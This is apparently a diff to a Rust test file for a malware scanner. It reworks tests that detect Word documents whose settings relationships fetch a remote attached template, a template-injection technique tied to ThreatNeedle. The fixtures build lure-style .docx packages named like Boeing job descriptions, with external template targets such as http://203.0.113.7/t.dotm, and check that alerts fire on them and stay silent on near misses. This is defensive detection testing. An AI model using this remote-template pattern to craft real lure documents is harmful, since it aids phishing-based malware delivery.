@@ -364,18 +364,6 @@ fn positive_samples() -> Vec<Positive> {
                 "COVID-19: updated guidance from the medical centre",
             ),
         },
-        Positive {
-            rule: "ThreatNeedle_Office_Remote_Template_Stored",
-            score: 70,
-            path: "Users/alice/Downloads/Boeing_JD.docx",
-            data: docx_with_settings_rels(&remote_template_rels(), ZipMethod::Stored),
-        },
-        Positive {
-            rule: "ThreatNeedle_Office_Template_Rels_Compressed",
-            score: 40,
-            path: "Users/alice/Downloads/Boeing_AERO.docx",
-            data: docx_with_settings_rels(&remote_template_rels(), ZipMethod::Deflated),
-        },
     ]
 }
 
@@ -1048,10 +1036,23 @@ fn remote_template_rels() -> String {
     settings_rels_xml("https://templates.example.test/Boeing_AERO_GS.dotm", true)
 }
 
+/// The ids of the document reasons on a path's finding (none when it has no finding).
+fn document_reasons(run: &util::Run, path: &str) -> Vec<String> {
+    finding_for(run, path)
+        .map(|finding| {
+            finding["reasons"]
+                .as_array()
+                .expect("reasons")
+                .iter()
+                .filter(|r| r["kind"] == "document")
+                .map(|r| r["id"].as_str().unwrap_or_default().to_string())
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
 #[test]
-fn stored_remote_template_relationship_is_detected() {
-    const STORED: &str = "ThreatNeedle_Office_Remote_Template_Stored";
-    const WEAK: &str = "ThreatNeedle_Office_Template_Rels_Compressed";
+fn a_remote_template_is_found_by_reading_the_package_stored_or_compressed() {
     // Attribute order and quoting vary between producers.
     let reordered = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship TargetMode='External' Target='http://203.0.113.7/t.dotm' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Id='rId9'/></Relationships>"#;
     let local = settings_rels_xml(
@@ -1068,6 +1069,10 @@ fn stored_remote_template_relationship_is_detected() {
             docx_with_settings_rels(&remote_template_rels(), ZipMethod::Stored),
         ),
         (
+            "a/compressed.docx",
+            docx_with_settings_rels(&remote_template_rels(), ZipMethod::Deflated),
+        ),
+        (
             "a/reordered.docx",
             docx_with_settings_rels(reordered, ZipMethod::Stored),
         ),
@@ -1078,20 +1083,20 @@ fn stored_remote_template_relationship_is_detected() {
         // near misses
         (
             "b/local.docx",
-            docx_with_settings_rels(&local, ZipMethod::Stored),
+            docx_with_settings_rels(&local, ZipMethod::Deflated),
         ),
         (
             "b/internal.docx",
-            docx_with_settings_rels(&internal, ZipMethod::Stored),
+            docx_with_settings_rels(&internal, ZipMethod::Deflated),
         ),
         (
             "b/split.docx",
-            docx_with_settings_rels(split, ZipMethod::Stored),
+            docx_with_settings_rels(split, ZipMethod::Deflated),
         ),
         ("b/flat_local.xml", flat_opc_with_settings_rels(&local)),
         // The relationship as loose text, not in a document.
         ("b/settings.xml.rels", remote_template_rels().into_bytes()),
-        // Another part of the package holds it (document.xml.rels hyperlinks are common).
+        // Another part of the package holds it: Word does not fetch templates from there.
         (
             "b/other_part.docx",
             build_zip(&[
@@ -1099,15 +1104,25 @@ fn stored_remote_template_relationship_is_detected() {
                 ZipEntry::new(
                     "word/_rels/document.xml.rels",
                     remote_template_rels(),
-                    ZipMethod::Stored,
+                    ZipMethod::Deflated,
                 ),
             ]),
         ),
     ]);
-    assert_eq!(rule_names_on(&run, "a/stored.docx"), [STORED]);
-    assert_eq!(rule_names_on(&run, "a/reordered.docx"), [STORED]);
-    assert_eq!(rule_names_on(&run, "a/flat.xml"), [STORED]);
-    assert_silent(&run, "a/stored.docx", WEAK);
+    for lure in ["a/stored.docx", "a/compressed.docx", "a/reordered.docx"] {
+        let part = format!("{lure}!word/_rels/settings.xml.rels");
+        assert_eq!(
+            document_reasons(&run, &part),
+            ["document_remote_template"],
+            "{part}"
+        );
+        let finding = finding_for(&run, lure).expect("the document itself");
+        assert_eq!(finding["level"], "alert", "{lure}");
+    }
+    assert_eq!(
+        document_reasons(&run, "a/flat.xml"),
+        ["document_remote_template"]
+    );
     for near in [
         "b/local.docx",
         "b/internal.docx",
@@ -1116,43 +1131,8 @@ fn stored_remote_template_relationship_is_detected() {
         "b/settings.xml.rels",
         "b/other_part.docx",
     ] {
-        assert_no_rule(&run, near);
+        assert!(finding_for(&run, near).is_none(), "{near}: {}", run.stdout);
     }
-}
-
-#[test]
-fn compressed_template_relationships_are_only_a_notice() {
-    const WEAK: &str = "ThreatNeedle_Office_Template_Rels_Compressed";
-    let plain_docx = build_zip(&[
-        ZipEntry::new("[Content_Types].xml", "<Types/>", ZipMethod::Deflated),
-        ZipEntry::new("word/document.xml", "<w:document/>", ZipMethod::Deflated),
-        ZipEntry::new(
-            "word/_rels/document.xml.rels",
-            "<Relationships/>",
-            ZipMethod::Deflated,
-        ),
-    ]);
-    let (_host, run) = scan_samples(&[
-        (
-            "a/remote.docx",
-            docx_with_settings_rels(&remote_template_rels(), ZipMethod::Deflated),
-        ),
-        // near misses: no settings relationships, a part of that name outside word/
-        ("b/plain.docx", plain_docx),
-        (
-            "b/elsewhere.zip",
-            build_zip(&[ZipEntry::new(
-                "backup/word/_rels/settings.xml.rels",
-                remote_template_rels(),
-                ZipMethod::Deflated,
-            )]),
-        ),
-    ]);
-    assert_eq!(rules_on(&run, "a/remote.docx"), [(WEAK.to_string(), 40)]);
-    let finding = finding_for(&run, "a/remote.docx").expect("flagged");
-    assert_eq!(finding["level"], "notice");
-    assert_no_rule(&run, "b/plain.docx");
-    assert_no_rule(&run, "b/elsewhere.zip");
 }
 
 // ---------------------------------------------------------------------------
